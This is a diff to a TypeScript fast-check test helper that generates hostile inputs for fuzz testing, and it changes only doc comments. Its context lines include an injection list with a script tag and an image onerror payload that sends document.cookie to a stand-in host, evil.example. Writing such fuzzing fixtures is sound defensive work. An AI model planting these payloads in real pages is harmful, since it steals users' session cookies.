@@ -1,6 +1,6 @@
 import fc from "fast-check";
 
-/** What somebody might write who means harm: to the page, the database, the export, the model. */
+/** Texts with which an attacker might harm the page, the database, the export or the model. */
 const INJECTIONS = [
   "<script>alert(1)</script>",
   '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">',
@@ -64,7 +64,7 @@ function nested(depth: number): unknown {
   return value;
 }
 
-/** A JSON text made of fields that are right, hostile, missing, unknown or there twice. */
+/** A JSON text with fields that are correct, hostile, missing, unknown or repeated. */
 export function hostileObject(right: Record<string, fc.Arbitrary<unknown>>): fc.Arbitrary<string> {
   const names = Object.keys(right);
   const field = (name: string) => {
@@ -93,7 +93,7 @@ export function hostileObject(right: Record<string, fc.Arbitrary<unknown>>): fc.
     .map((fields) => `{${fields.filter(Boolean).join(",")}}`);
 }
 
-/** Bytes that a JSON body becomes on a bad day, or by design. */
+/** The bytes of a JSON body, sometimes damaged by accident or on purpose. */
 export function hostileBody(text: fc.Arbitrary<string>): fc.Arbitrary<Buffer> {
   return fc.oneof(
     { weight: 12, arbitrary: text.map((it) => Buffer.from(it)) },
